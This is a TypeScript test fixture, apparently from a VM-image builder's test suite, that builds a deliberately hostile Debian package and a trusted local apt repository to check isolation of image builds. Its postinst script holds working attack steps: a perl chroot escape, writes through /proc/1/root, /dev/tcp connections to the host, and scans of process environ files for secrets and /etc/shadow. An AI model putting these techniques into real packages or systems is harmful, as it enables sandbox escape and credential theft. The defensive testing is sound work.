// A hostile Debian package, built with dpkg-deb in a local apt repository,
// and a sources file that adds that repository ([trusted=yes]: for tests
// only; copy: since dpkg runs in the image, which does not see the repository)
// to Debian's mirror, as mmdebstrap takes a mirror argument. Its
// postinst tries the build host every way it can and records, in the
// image's /root/hostile-pkg.log, what it saw.
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import * as fs from "node:fs";
import * as path from "node:path";

export const HOSTILE_PACKAGE = "vm-images-hostile";

export interface HostileProbe {
  /** Written into the names of every file the package tries to create on the host, and looked for in environ files. */
  marker: string;
  /** Ports of listeners on the host's 127.0.0.1 and on its own address. */
  loopbackPort: number;
  hostAddress: string;
  hostPort: number;
}

function postinst(p: HostileProbe): string {
  const m = p.marker;
  return `#!/bin/sh
log=/root/hostile-pkg.log
try() { if sh -c "$2" >/dev/null 2>&1; then echo "$1: succeeded" >> $log; else echo "$1: failed" >> $log; fi; }
try proc1-root 'echo x > /proc/1/root/tmp/${m}-proc1-root'
try host-tmp 'echo x > /tmp/${m}-host-tmp'
try loopback 'timeout 5 bash -c "echo ${m} > /dev/tcp/127.0.0.1/${p.loopbackPort}"'
try host-address 'timeout 5 bash -c "echo ${m} > /dev/tcp/${p.hostAddress}/${p.hostPort}"'
for f in /proc/1/environ /proc/self/environ /proc/[0-9]*/environ; do
  if { tr '\\0' '\\n' < "$f"; } 2>/dev/null | grep -q -e ${m} -e VM_IMAGES_; then echo "environ: $f" >> $log; fi
done
# A chroot escape: chroot into a subdirectory, climb out of it, chroot there.
mkdir -p /tmp/escape
perl -e 'chdir "/tmp" or die; chroot "escape" or die "chroot: $!"; chdir ".." for 1..64; chroot "." or die "chroot .: $!"; exec "/bin/sh", "-c", $ARGV[0]' '
  if echo x > /tmp/${m}-escaped 2>/dev/null; then echo "escaped-tmp: succeeded"; else echo "escaped-tmp: failed"; fi
  if [ -e /etc/shadow ]; then echo "escaped-shadow: present"; fi
  for f in /proc/[0-9]*/environ; do
    if { tr "\\0" "\\n" < "$f"; } 2>/dev/null | grep -q -e ${m} -e VM_IMAGES_; then echo "escaped-environ: $f"; fi
  done
  echo "escaped-root: $(ls / | tr "\\n" " ")"
' >> $log 2>&1 || echo "escape: failed" >> $log
exit 0
`;
}

/** The package and its repository in `dir`; returns the sources file to give as the mirror. */
export function hostileRepository(dir: string, probe: HostileProbe): string {
  const pkg = path.join(dir, "pkg");
  fs.mkdirSync(path.join(pkg, "DEBIAN"), { recursive: true });
  fs.writeFileSync(path.join(pkg, "DEBIAN", "control"), [
    `Package: ${HOSTILE_PACKAGE}`, "Version: 1.0", "Architecture: all", "Maintainer: Test <test@example.org>",
    "Depends: perl-base, bash, coreutils", "Description: tries the build host from its postinst", "",
  ].join("\n"));
  fs.writeFileSync(path.join(pkg, "DEBIAN", "postinst"), postinst(probe), { mode: 0o755 });
  const repo = path.join(dir, "repo");
  fs.mkdirSync(repo, { recursive: true });
  const deb = path.join(repo, `${HOSTILE_PACKAGE}_1.0_all.deb`);
  execFileSync("dpkg-deb", ["--root-owner-group", "--build", pkg, deb], { stdio: "ignore" });
  const control = execFileSync("dpkg-deb", ["--field", deb], { encoding: "utf8" }).trimEnd();
  const bytes = fs.readFileSync(deb);
  fs.writeFileSync(path.join(repo, "Packages"), `${control}\nFilename: ./${path.basename(deb)}\nSize: ${bytes.length}\n`
    + `SHA256: ${createHash("sha256").update(bytes).digest("hex")}\n\n`);
  const sources = path.join(repo, "sources.list");
  fs.writeFileSync(sources, `deb http://deb.debian.org/debian bookworm main\ndeb [trusted=yes] copy:${repo} ./\n`);
  return sources;
}
